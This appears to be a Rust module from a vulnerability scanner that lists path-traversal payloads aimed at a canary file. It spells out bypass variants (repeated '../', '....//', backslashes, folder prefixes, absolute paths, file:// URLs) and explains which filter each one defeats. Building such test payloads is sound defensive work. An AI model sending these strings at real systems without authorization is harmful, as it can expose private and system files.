//! Payloads for file paths: the canary file from wherever the function stands.
//!
//! Percent encodings are not listed: an encoding level is a codec.

use super::{Effect, Payload, PayloadClass};

const fn path(id: &'static str, template: &'static str, why: &'static str) -> Payload {
    Payload::new(PayloadClass::PathTraversal, id, template, Effect::Opens("{F}/{C}"), why)
}

/// Best first.
pub(super) const PAYLOADS: &[Payload] = &[
    path(
        "path-dots",
        "../../../../../../../../../../../..{F}/{C}",
        "there is nothing above the root, so many steps up are enough from any folder",
    ),
    path(
        "path-absolute",
        "{F}/{C}",
        "os.path.join and path.resolve drop what stands before an absolute path",
    ),
    path(
        "path-dots-doubled",
        "....//....//....//....//....//....//....//....//....//....//....//....//{F}/{C}",
        "what is left when ../ is removed once",
    ),
    path(
        "path-backslashes",
        "..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\{F}/{C}",
        "a check for ../ before backslashes become slashes",
    ),
    path(
        "path-folder-first",
        "a/../../../../../../../../../../../../..{F}/{C}",
        "a check that the path does not begin with a dot or slash, before it is normalized",
    ),
    path("path-file-url", "file://{F}/{C}", "readers that take URLs take files too"),
];
